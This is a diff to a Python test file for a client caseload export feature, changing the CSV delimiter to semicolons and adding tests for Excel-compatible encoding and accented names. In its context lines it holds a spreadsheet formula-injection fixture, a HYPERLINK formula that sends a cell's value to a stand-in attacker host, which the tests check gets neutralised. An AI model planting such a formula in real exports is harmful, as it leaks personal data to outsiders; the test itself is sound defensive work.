@@ -207,7 +207,7 @@ def test_export_csv_and_xlsx_of_the_whole_selection(sa, staff):
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     assert f"caseload-{timezone.localdate():%Y-%m-%d}.csv" in response["Content-Disposition"]
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
     assert rows[0][0] == "Naam"
     assert len(rows) == 1 + 31
     vol = next(row for row in rows if row[0].startswith("Vol,"))
@@ -224,7 +224,8 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&C2,"Open")'
 
 def test_an_export_cell_is_never_a_formula(sa, staff):
     staff.client_of("sa", last_name=EVIL, first_name="@SUM(A1)", national_number="")
-    rows = list(csv.reader(io.StringIO(sa.get(URL + "?export=csv").content.decode("utf-8-sig"))))
+    content = sa.get(URL + "?export=csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
     name = rows[1][0]
     assert name.startswith("'=HYPERLINK(")
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
@@ -233,6 +234,21 @@ def test_an_export_cell_is_never_a_formula(sa, staff):
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
     assert sheet.cell(row=2, column=1).value.startswith("'=HYPERLINK(")
+
+
+def test_the_csv_opens_in_belgian_excel_with_columns_and_accents_or_plain_on_request(sa, staff):
+    staff.client_of("sa", last_name="Yılmaz", first_name="Aydın", national_number="")
+    content = sa.get(URL + "?export=csv").content
+    # A byte order mark (Excel reads UTF-8 only after one) and ";" between the columns.
+    assert content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8")[1:]), delimiter=";"))
+    assert rows[0][:2] == ["Naam", "Leeftijd"]
+    assert rows[1][0] == "Yılmaz, Aydın"
+    assert all(len(row) == len(rows[0]) > 3 for row in rows)
+
+    plain = sa.get(URL + "?export=csv&sep=comma").content.decode("utf-8")
+    assert plain.startswith("Naam,Leeftijd,")
+    assert '"Yılmaz, Aydın",' in plain
 
 
 def test_export_contains_only_visible_clients(sa, staff):
